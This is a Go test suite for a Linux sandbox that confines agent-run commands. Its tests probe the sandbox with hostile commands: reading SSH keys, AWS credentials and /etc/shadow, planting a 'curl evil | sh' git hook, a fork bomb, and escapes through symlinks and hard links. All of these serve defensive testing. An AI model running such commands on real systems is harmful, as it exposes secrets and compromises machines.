//go:build linux

package sandbox

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestMain(m *testing.M) {
	Main() // this test binary is also the launcher
	os.Exit(m.Run())
}

// box is a sandbox on a temporary workspace, with one session's scratch.
type box struct {
	t  *testing.T
	s  *Sandbox
	ws string
	sc *Scratch
}

func newBox(t *testing.T, cfg Config) *box {
	t.Helper()
	if cfg.Workspace == "" {
		cfg.Workspace = t.TempDir()
	}
	if cfg.Env == nil {
		cfg.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + cfg.Home}
	}
	s, err := New(cfg)
	require.NoError(t, err)
	t.Cleanup(func() { s.Close() })
	sc, err := s.NewScratch()
	require.NoError(t, err)
	ws, err := filepath.EvalSymlinks(cfg.Workspace)
	require.NoError(t, err)
	return &box{t: t, s: s, ws: ws, sc: sc}
}

// run runs command in the workspace and returns its output and exit.
func (b *box) run(command string) (string, Exit) {
	b.t.Helper()
	ctx, cancel := context.WithTimeout(b.t.Context(), 30*time.Second)
	defer cancel()
	return b.runCtx(ctx, command)
}

func (b *box) runCtx(ctx context.Context, command string) (string, Exit) {
	b.t.Helper()
	var out bytes.Buffer
	c, err := b.s.Start(ctx, Spec{Command: command, Dir: b.ws, Scratch: b.sc, Output: &out})
	require.NoError(b.t, err)
	exit, err := c.Wait()
	require.NoError(b.t, err, "output: %s", out.String())
	return out.String(), exit
}

// ok runs command and requires it to succeed.
func (b *box) ok(command string) string {
	b.t.Helper()
	out, exit := b.run(command)
	require.Equal(b.t, 0, exit.Code, "%s\n%s", command, out)
	return out
}

// fails runs command and requires it to fail.
func (b *box) fails(command string) string {
	b.t.Helper()
	out, exit := b.run(command)
	require.NotEqual(b.t, 0, exit.Code, "%s should fail, but printed:\n%s", command, out)
	return out
}

// fakeHome makes a home directory with secrets, outside the system
// temporary directory (which commands cannot read at all).
func fakeHome(t *testing.T) string {
	t.Helper()
	base, err := os.UserCacheDir()
	require.NoError(t, err)
	require.NoError(t, os.MkdirAll(base, 0o755))
	home, err := os.MkdirTemp(base, "agentbox-test-home-")
	require.NoError(t, err)
	t.Cleanup(func() { os.RemoveAll(home) })
	for name, content := range map[string]string{
		".ssh/id_ed25519":  "PRIVATE KEY",
		".aws/credentials": "AWS SECRET",
		".netrc":           "machine x password NETRC",
		".config/gh/hosts": "oauth_token: GHTOKEN",
		"notes.txt":        "visible notes",
		"tools/bin/hello":  "#!/bin/sh\necho hello from a toolchain\n",
	} {
		p := filepath.Join(home, name)
		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
		require.NoError(t, os.WriteFile(p, []byte(content), 0o755))
	}
	return home
}

func TestWritesStayInside(t *testing.T) {
	t.Parallel()
	outside := t.TempDir()
	home := fakeHome(t)
	b := newBox(t, Config{Home: home})
	require.NoError(t, os.Symlink(outside, filepath.Join(b.ws, "link")))
	escape := filepath.Join(os.TempDir(), "agentbox-escape-"+strconv.Itoa(os.Getpid()))
	t.Cleanup(func() { os.Remove(escape) })

	t.Run("writes inside the workspace", func(t *testing.T) {
		b.ok("mkdir -p sub && echo inside > sub/f.txt")
		got, err := os.ReadFile(filepath.Join(b.ws, "sub/f.txt"))
		require.NoError(t, err)
		assert.Equal(t, "inside\n", string(got))
	})
	t.Run("writes TMPDIR", func(t *testing.T) {
		assert.Equal(t, "tmp\n", b.ok(`echo tmp > "$TMPDIR/f" && cat "$TMPDIR/f"`))
	})
	for name, cmd := range map[string]string{
		"refuses the parent directory": "echo x > ../x.txt",
		"refuses /tmp outside TMPDIR":  "touch " + escape,
		"refuses a symlink out":        "echo x > link/f.txt",
		"refuses the home directory":   "touch ~/planted",
		"refuses a hard link out":      "ln " + filepath.Join(home, "notes.txt") + " hard",
	} {
		t.Run(name, func(t *testing.T) {
			b.fails(cmd)
		})
	}
	assert.NoFileExists(t, filepath.Join(filepath.Dir(b.ws), "x.txt"))
	assert.NoFileExists(t, escape)
	assert.NoFileExists(t, filepath.Join(outside, "f.txt"))
	assert.NoFileExists(t, filepath.Join(home, "planted"))
}

func TestNetwork(t *testing.T) {
	t.Parallel()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { ln.Close() })
	accepted := make(chan struct{}, 4)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
			accepted <- struct{}{}
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	connect := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port)

	t.Run("refuses a loopback listener outside", func(t *testing.T) {
		b := newBox(t, Config{})
		out := b.fails(connect)
		assert.NotContains(t, out, "connected")
		assert.Contains(t, out, "refused")
	})
	t.Run("serves its own loopback", func(t *testing.T) {
		b := newBox(t, Config{})
		if !b.s.os.loopback {
			t.Skip("no private loopback here")
		}
		b.ok(`python3 -m http.server 8765 --bind 127.0.0.1 >/dev/null 2>&1 & for i in $(seq 50); do (exec 3<>/dev/tcp/127.0.0.1/8765) 2>/dev/null && exit 0; sleep 0.1; done; exit 1`)
	})
	t.Run("connects with --allow-network", func(t *testing.T) {
		b := newBox(t, Config{AllowNetwork: true})
		assert.Contains(t, b.ok(connect), "connected")
		select {
		case <-accepted:
		case <-t.Context().Done():
			t.Fatal("the listener saw no connection")
		}
	})
}

func TestEnvironment(t *testing.T) {
	t.Parallel()
	b := newBox(t, Config{
		Env: []string{
			"PATH=" + os.Getenv("PATH"), "HOME=/nonexistent", "LANG=en_US.UTF-8",
			"AGENTBOX_TOKEN=tok-123", "AWS_SECRET_ACCESS_KEY=aws-456", "GITHUB_TOKEN=gh-789",
			"FOO=bar", "TERM=xterm-256color",
		},
		PassEnv: []string{"FOO", "MISSING"},
	})
	env := b.ok("env")
	for _, secret := range []string{"tok-123", "aws-456", "gh-789", "AGENTBOX_TOKEN", "xterm"} {
		assert.NotContains(t, env, secret)
	}
	for _, want := range []string{"FOO=bar\n", "TERM=dumb\n", "TMPDIR=" + b.sc.Tmp + "\n", "LANG=en_US.UTF-8\n", "HOME=/nonexistent\n", "AGENTBOX=1\n"} {
		assert.Contains(t, env, want)
	}
	// The launcher's own environment carries nothing of the server's either.
	assert.NotContains(t, b.ok("cat /proc/1/environ | tr '\\0' '\\n'"), "tok-123")
}

func TestSecretsHidden(t *testing.T) {
	t.Parallel()
	home := fakeHome(t)
	b := newBox(t, Config{Home: home})
	require.NoError(t, os.Symlink(filepath.Join(home, ".ssh/id_ed25519"), filepath.Join(b.ws, "key")))

	assert.Equal(t, "visible notes", b.ok("cat ~/notes.txt"))
	assert.Contains(t, b.ok("ls -a ~"), "notes.txt")
	for _, cmd := range []string{
		"cat ~/.ssh/id_ed25519", "cat ~/.aws/credentials", "cat ~/.netrc",
		"cat ~/.config/gh/hosts", "cat key", "grep -r . ~ 2>/dev/null",
	} {
		out, _ := b.run(cmd)
		for _, secret := range []string{"PRIVATE", "AWS SECRET", "NETRC", "GHTOKEN"} {
			assert.NotContains(t, out, secret, cmd)
		}
	}
	t.Run("hides system secrets and daemon sockets", func(t *testing.T) {
		out, _ := b.run("cat /etc/shadow; ls /run")
		assert.NotContains(t, out, "root:")
		assert.NotContains(t, out, "systemd")
	})
	t.Run("strict mode reads only what it allows", func(t *testing.T) {
		extra := filepath.Join(home, "tools")
		sb := newBox(t, Config{Home: home, Reads: ReadStrict, AllowRead: []string{extra}})
		sb.fails("cat ~/notes.txt")
		assert.Equal(t, "hello from a toolchain\n", sb.ok(filepath.Join(extra, "bin/hello")))
		sb.ok("ls /usr/bin >/dev/null && cat /etc/passwd >/dev/null")
	})
}

// TestHide checks Config.Hide, which the server fills with its checkpoint
// journals: commands can neither read nor change them, while the rest of
// the home directory stays as it was.
func TestHide(t *testing.T) {
	t.Parallel()
	home := fakeHome(t)
	state := filepath.Join(home, ".local/state/agentbox")
	journal := filepath.Join(state, "checkpoints/ws-0123/journal")
	require.NoError(t, os.MkdirAll(filepath.Dir(journal), 0o755))
	require.NoError(t, os.WriteFile(journal, []byte("JOURNAL LINE\n"), 0o600))
	b := newBox(t, Config{Home: home, Hide: []string{state, filepath.Join(home, "missing")}})

	assert.Equal(t, "visible notes", b.ok("cat ~/notes.txt"))
	for _, cmd := range []string{"cat " + journal, "grep -r JOURNAL ~ 2>/dev/null"} {
		out, _ := b.run(cmd)
		assert.NotContains(t, out, "JOURNAL", cmd)
	}
	out, _ := b.run("ls -R " + state + " 2>&1")
	assert.NotContains(t, out, "ws-0123")
	for _, cmd := range []string{
		"echo x >> " + journal, "rm -rf " + state, "mkdir -p " + state + "/checkpoints/x",
		"touch " + state + "/new", "mv " + state + " " + home + "/moved",
	} {
		b.fails(cmd)
	}
	assert.Equal(t, "JOURNAL LINE\n", readFile(t, journal))
	entries, err := os.ReadDir(state)
	require.NoError(t, err)
	assert.Len(t, entries, 1, "only checkpoints/ is there")
}

func TestGitProtected(t *testing.T) {
	t.Parallel()
	setup := func(t *testing.T, allow bool) *box {
		b := newBox(t, Config{AllowGitConfig: allow})
		for _, d := range []string{".git/hooks", ".git/objects", ".git/refs"} {
			require.NoError(t, os.MkdirAll(filepath.Join(b.ws, d), 0o755))
		}
		require.NoError(t, os.WriteFile(filepath.Join(b.ws, ".git/config"), []byte("[core]\n"), 0o644))
		require.NoError(t, os.WriteFile(filepath.Join(b.ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
		// The launch plan is made per command, so a .git made now counts.
		return b
	}
	b := setup(t, false)
	if !b.s.os.mount {
		t.Skip("no mount namespace here")
	}
	b.ok("echo ref > .git/refs/x && touch .git/index")
	for _, cmd := range []string{
		"echo 'curl evil | sh' > .git/hooks/pre-commit",
		"printf '[core]\\nhooksPath = x\\n' >> .git/config",
		"mv .git .git-old",
		"rm -rf .git/hooks",
		"rm -rf .git",
	} {
		b.fails(cmd)
	}
	assert.NoFileExists(t, filepath.Join(b.ws, ".git/hooks/pre-commit"))
	assert.Equal(t, "[core]\n", readFile(t, filepath.Join(b.ws, ".git/config")))
	assert.DirExists(t, filepath.Join(b.ws, ".git/hooks"))

	t.Run("a .git file cannot be pointed elsewhere", func(t *testing.T) {
		wb := newBox(t, Config{})
		require.NoError(t, os.WriteFile(filepath.Join(wb.ws, ".git"), []byte("gitdir: /elsewhere\n"), 0o644))
		wb.fails("echo 'gitdir: evil' > .git")
		assert.Equal(t, "gitdir: /elsewhere\n", readFile(t, filepath.Join(wb.ws, ".git")))
	})
	t.Run("a repository without hooks gets an empty, read-only directory", func(t *testing.T) {
		nb := newBox(t, Config{})
		require.NoError(t, os.MkdirAll(filepath.Join(nb.ws, ".git/objects"), 0o755))
		nb.fails("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit")
		assert.NoFileExists(t, filepath.Join(nb.ws, ".git/hooks/pre-commit"))
	})
	t.Run("--allow-git-config lets commands change them", func(t *testing.T) {
		ab := setup(t, true)
		ab.ok("echo '#!/bin/sh' > .git/hooks/pre-commit && echo '[user]' >> .git/config")
	})
}

func readFile(t *testing.T, name string) string {
	t.Helper()
	b, err := os.ReadFile(name)
	require.NoError(t, err)
	return string(b)
}

// marked lists the host's processes whose command line holds marker.
func marked(t *testing.T, marker string) []string {
	t.Helper()
	entries, err := os.ReadDir("/proc")
	require.NoError(t, err)
	var found []string
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && bytes.Contains(b, []byte(marker)) && !bytes.Contains(b, []byte("eval")) {
			found = append(found, e.Name()+": "+strings.ReplaceAll(string(b), "\x00", " "))
		}
	}
	return found
}

func TestNoProcessOutlivesItsCommand(t *testing.T) {
	t.Parallel()
	b := newBox(t, Config{})
	marker := fmt.Sprintf("agentbox-marker-%d", time.Now().UnixNano())
	sleeper := fmt.Sprintf("(exec -a %s sleep 1000)", marker)
	t.Run("background, setsid, nohup and double fork", func(t *testing.T) {
		b.ok(fmt.Sprintf("%[1]s & setsid bash -c '%[1]s' & nohup bash -c '%[1]s' >/dev/null 2>&1 & ( ( %[1]s & ) & ); sleep 0.2; echo started", sleeper))
		assert.Empty(t, marked(t, marker))
	})
	t.Run("a timeout kills grandchildren", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
		defer cancel()
		_, exit := b.runCtx(ctx, fmt.Sprintf("%[1]s & %[1]s; wait", sleeper))
		assert.Equal(t, 143, exit.Code, "SIGTERM ends it")
		assert.Empty(t, marked(t, marker))
	})
	t.Run("a command that ignores SIGTERM is killed after the grace", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
		defer cancel()
		_, exit := b.runCtx(ctx, fmt.Sprintf("trap '' TERM; exec -a %s sleep 1000", marker))
		assert.NotEqual(t, 0, exit.Code)
		assert.Empty(t, marked(t, marker))
	})
	t.Run("stdin is empty", func(t *testing.T) {
		assert.Equal(t, "got[] 1\n", b.ok(`read x; echo "got[$x] $?"`))
	})
}

func TestForkBombIsBounded(t *testing.T) {
	t.Parallel()
	b := newBox(t, Config{})
	if !b.s.os.pidMax {
		t.Skip("no process limit here")
	}
	assert.Equal(t, fmt.Sprint(DefaultMaxProcs)+"\n", b.ok("cat /proc/sys/kernel/pid_max"))
	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Second)
	defer cancel()
	out, exit := b.runCtx(ctx, "bomb() { bomb | bomb & }; bomb; sleep 100")
	assert.NotEqual(t, 0, exit.Code)
	assert.Contains(t, out, "Resource temporarily unavailable")
	assert.Empty(t, marked(t, "bomb"))
}

func TestSystemView(t *testing.T) {
	t.Parallel()
	b := newBox(t, Config{})
	if !b.s.os.mount {
		t.Skip("no mount namespace here")
	}
	dev := b.ok("ls /dev")
	assert.Contains(t, dev, "null")
	for _, disk := range []string{"vda", "sda", "nvme", "mem", "kmsg"} {
		assert.NotContains(t, dev, disk)
	}
	procs := strings.Fields(b.ok("ls /proc | grep '^[0-9]'"))
	assert.Less(t, len(procs), 10, "only the command's own processes: %v", procs)
	b.fails("echo 3 > /proc/sys/vm/drop_caches")
	b.fails("echo x > /sys/kernel/uevent_helper")
	assert.Contains(t, b.ok("grep CapEff /proc/self/status"), "00000000000004ff")
}

func TestWorkingDirectory(t *testing.T) {
	t.Parallel()
	b := newBox(t, Config{})
	_, exit := b.run("mkdir -p a/b && cd a/b")
	assert.Equal(t, filepath.Join(b.ws, "a/b"), exit.Dir)
	_, exit = b.run("cd a && false")
	assert.Equal(t, "", exit.Dir, "a failed command reports no directory")
}

func TestModes(t *testing.T) {
	t.Parallel()
	auto := newBox(t, Config{})
	t.Run("require starts only when nothing is missing", func(t *testing.T) {
		s, err := New(Config{Mode: Require, Workspace: t.TempDir()})
		if len(auto.s.Missing()) > 0 {
			assert.True(t, errors.Is(err, ErrUnavailable), "%v", err)
			return
		}
		require.NoError(t, err)
		s.Close()
	})
	t.Run("off runs unconfined but keeps the environment allow-list", func(t *testing.T) {
		b := newBox(t, Config{Mode: Off, Env: []string{"PATH=" + os.Getenv("PATH"), "SECRET_TOKEN=s3"}})
		assert.NotEmpty(t, b.s.Missing())
		assert.NotContains(t, b.ok("env"), "s3")
		n, err := strconv.Atoi(strings.TrimSpace(b.ok("ls /proc | grep -c '^[0-9]'")))
		require.NoError(t, err)
		assert.Greater(t, n, 3, "the host's processes are visible")
	})
}

func TestStaleStateIsRemoved(t *testing.T) {
	t.Parallel()
	parent := t.TempDir()
	gone := exec.Command("true")
	require.NoError(t, gone.Run())
	stale := filepath.Join(parent, fmt.Sprintf("%s%d-abc", statePrefix, gone.Process.Pid))
	live := filepath.Join(parent, fmt.Sprintf("%s%d-abc", statePrefix, os.Getppid()))
	other := filepath.Join(parent, "agentbox-e2e-123")
	for _, d := range []string{stale, live, other} {
		require.NoError(t, os.MkdirAll(filepath.Join(d, "cache"), 0o700))
	}
	s, err := New(Config{Workspace: t.TempDir(), StateDir: parent})
	require.NoError(t, err)
	assert.NoDirExists(t, stale, "a killed server's directory is cleaned up")
	assert.DirExists(t, live)
	assert.DirExists(t, other)
	assert.DirExists(t, s.state)
	require.NoError(t, s.Close())
	assert.NoDirExists(t, s.state)
}

func TestCover(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	for _, d := range []string{"a/x", "a/secret/deep", "b", "c/d/hidden", "c/d/ok"} {
		require.NoError(t, os.MkdirAll(filepath.Join(root, d), 0o755))
	}
	require.NoError(t, os.Symlink("a", filepath.Join(root, "link")))
	grant, list := cover([]string{root}, []string{filepath.Join(root, "a/secret"), filepath.Join(root, "c/d/hidden")})
	rel := func(ps []string) []string {
		var out []string
		for _, p := range ps {
			r, _ := filepath.Rel(root, p)
			out = append(out, r)
		}
		return out
	}
	assert.ElementsMatch(t, []string{"a/x", "b", "c/d/ok"}, rel(grant))
	assert.ElementsMatch(t, []string{".", "a", "c", "c/d"}, rel(list))
}

func TestHidings(t *testing.T) {
	t.Parallel()
	got := hidings(
		[]string{"/h/.ssh", "/tmp", "/ws"},
		[]string{"/tmp/ws", "/tmp/ab/s1/tmp", "/tmp/ws/sub", "/ws"},
	)
	assert.Equal(t, []hiding{
		{Path: "/h/.ssh"},
		{Path: "/tmp", Keep: []string{"/tmp/ab/s1/tmp", "/tmp/ws"}},
	}, got)
}

func BenchmarkTrue(b *testing.B) {
	ws := b.TempDir()
	run := func(b *testing.B, s *Sandbox) {
		sc, err := s.NewScratch()
		require.NoError(b, err)
		for b.Loop() {
			var out bytes.Buffer
			c, err := s.Start(b.Context(), Spec{Command: "true", Dir: ws, Scratch: sc, Output: &out})
			require.NoError(b, err)
			exit, err := c.Wait()
			require.NoError(b, err)
			require.Equal(b, 0, exit.Code, out.String())
		}
	}
	b.Run("sandboxed", func(b *testing.B) {
		s, err := New(Config{Workspace: ws, Home: os.Getenv("HOME"), Env: os.Environ()})
		require.NoError(b, err)
		defer s.Close()
		run(b, s)
	})
	b.Run("sandboxed, agentbox binary", func(b *testing.B) {
		// The launcher is the server's own binary, whose package
		// initialisation is part of the cost.
		bin := filepath.Join(b.TempDir(), "agentbox")
		build := exec.Command("go", "build", "-o", bin, "../../cmd/agentbox")
		if out, err := build.CombinedOutput(); err != nil {
			b.Skipf("cannot build agentbox: %v\n%s", err, out)
		}
		s, err := New(Config{Workspace: ws, Home: os.Getenv("HOME"), Env: os.Environ(), Launcher: append([]string{bin}, launcherArgs...)})
		require.NoError(b, err)
		defer s.Close()
		run(b, s)
	})
	b.Run("off", func(b *testing.B) {
		s, err := New(Config{Mode: Off, Workspace: ws, Env: os.Environ()})
		require.NoError(b, err)
		defer s.Close()
		run(b, s)
	})
	b.Run("bare bash", func(b *testing.B) {
		for b.Loop() {
			require.NoError(b, exec.Command("bash", "-c", "true").Run())
		}
	})
}
